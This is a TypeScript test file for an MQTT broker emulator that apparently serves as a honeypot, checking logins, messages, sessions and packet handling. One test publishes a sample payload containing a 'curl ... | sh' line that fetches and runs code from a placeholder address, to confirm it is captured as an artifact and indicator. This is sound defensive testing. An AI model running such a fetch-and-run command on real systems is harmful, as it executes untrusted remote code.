import { connectAsync, type MqttClient } from 'mqtt'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import lure from '../../../src/emulators/mqtt/index.ts'
import { type Playing, play } from '../../harness.ts'
import { accountsOnly } from '../hosts.ts'

const LOGIN = { policy: 'list', accept: [{ user: 'alice', password: 'secret' }] }

describe('the npm client', () => {
  let p: Playing
  const clients: MqttClient[] = []
  beforeEach(async () => {
    p = await play(lure, { hosts: accountsOnly(), options: { login: LOGIN } })
  })
  afterEach(async () => {
    await Promise.all(clients.splice(0).map((client) => client.endAsync(true)))
    await p.stop()
  })
  const open = async (options: Record<string, unknown> = {}, index = 0): Promise<MqttClient> => {
    const url = `${index ? 'mqtts' : 'mqtt'}://127.0.0.1:${p.port(index)}`
    const client = await connectAsync(url, { reconnectPeriod: 0, rejectUnauthorized: false, ...options })
    clients.push(client)
    return client
  }
  const messages = async (client: MqttClient, filter: string, wanted: number): Promise<Map<string, string>> => {
    const got = new Map<string, string>()
    const all = new Promise<void>((resolve) => {
      client.on('message', (topic, payload) => {
        got.set(topic, payload.toString())
        if (got.size >= wanted) resolve()
      })
    })
    await client.subscribeAsync(filter)
    await all
    return got
  }

  it.each([4, 5])('version %i: reads what is retained, and what another connection of its source publishes', async (protocolVersion) => {
    const reader = await open({ protocolVersion, clientId: 'reader' })
    const sys = await messages(reader, '$SYS/#', 50)
    expect(sys.get('$SYS/broker/version')).toBe('mosquitto version 2.0.11')
    expect(sys.get('$SYS/broker/uptime')).toMatch(/^\d+ seconds$/)
    const devices = await messages(reader, '#', 15)
    expect(devices.get('stat/compressor/POWER')).toBe('ON')
    expect(JSON.parse(devices.get('zigbee2mqtt/workshop/temperature')!)).toMatchObject({ battery: expect.any(Number) })
    const writer = await open({ protocolVersion, clientId: 'writer' })
    const heard = new Promise((resolve) =>
      reader.on('message', (topic, payload) => topic === 'cmnd/compressor/POWER' && resolve(String(payload))),
    )
    await writer.publishAsync('cmnd/compressor/POWER', 'OFF', { qos: 2 })
    expect(await heard).toBe('OFF')
    expect(p.data('mqtt.publish')).toEqual([
      { topic: 'cmnd/compressor/POWER', payload: 'OFF', qos: 2, retain: false, size: 3, will: false },
    ])
    expect(p.data('mqtt.connect')[0]).toMatchObject({ clientId: 'reader', level: protocolVersion, code: 0 })
    expect(p.data('mqtt.subscribe')[0]).toEqual({ filters: [{ filter: '$SYS/#', qos: 0 }] })
    expect(p.data('lure.fault')).toEqual([])
  })

  it('speaks TLS on 8883', async () => {
    const client = await open({}, 1)
    expect((await messages(client, '$SYS/broker/version', 1)).size).toBe(1)
  })

  it('keeps a password that is wrong and one that is right, and lets the right one in', async () => {
    await expect(open({ username: 'alice', password: 'no' })).rejects.toThrow('Not authorized')
    await open({ username: 'alice', password: 'secret' })
    expect(p.data('login')).toEqual([
      { method: 'mqtt', username: 'alice', password: 'no', accepted: false },
      { method: 'mqtt', username: 'alice', password: 'secret', accepted: true },
    ])
  })

  it('publishes the will of a client that goes without a word, and no will of one that says goodbye', async () => {
    const will = { topic: 'dead/one', payload: Buffer.from('gone'), qos: 1 as const, retain: false }
    const one = await open({ will, clientId: 'one' })
    await one.endAsync()
    const other = await open({ will, clientId: 'other' })
    other.stream.destroy()
    await p.seen('mqtt.publish')
    expect(p.data('mqtt.publish')).toEqual([{ topic: 'dead/one', payload: 'gone', qos: 1, retain: false, size: 4, will: true }])
  })

  it('drops the older of two clients with one identifier', async () => {
    const first = await open({ clientId: 'same', protocolVersion: 5 })
    const gone = new Promise<number>((resolve) => first.on('disconnect', (packet) => resolve(packet.reasonCode!)))
    await open({ clientId: 'same', protocolVersion: 5 })
    expect(await gone).toBe(0x8e)
  })

  it('remembers the subscriptions of who did not ask for a clean start', async () => {
    const first = await open({ clientId: 'stays', clean: false })
    await first.subscribeAsync('news/#')
    await first.endAsync()
    await p.seen('session.close')
    const again = await open({ clientId: 'stays', clean: false })
    const heard = new Promise((resolve) => again.on('message', (topic) => resolve(topic)))
    await again.publishAsync('news/today', 'x')
    expect(await heard).toBe('news/today')
  })

  it('keeps a long payload as an artifact and says what it points at', async () => {
    const client = await open()
    const payload = `#!/bin/sh\ncurl http://203.0.113.9/x | sh\n${'#'.repeat(5000)}`
    await client.publishAsync('a/b', payload, { qos: 1 })
    expect(p.data('artifact')).toMatchObject([{ name: 'a/b', how: 'mqtt', size: payload.length }])
    expect(p.data('indicator')).toMatchObject([{ kind: 'url', value: 'http://203.0.113.9/x' }])
  })

  it('ends a client that is silent for one and a half of its keep-alive', async () => {
    const packet = Buffer.from('100f00044d5154540502000100000263310a'.slice(0, 34), 'hex')
    expect((await p.exchange(packet, { quietMs: 2500 })).toString('hex')).toBe('200900000622000a210014e0018d')
  })

  it('refuses a packet of more than a mebibyte before it has come', async () => {
    const connect = Buffer.from('100f00044d5154540502003c000002633130ffffff7f', 'hex')
    expect((await p.exchange(connect)).toString('hex')).toBe('200900000622000a210014e00195')
  })
})
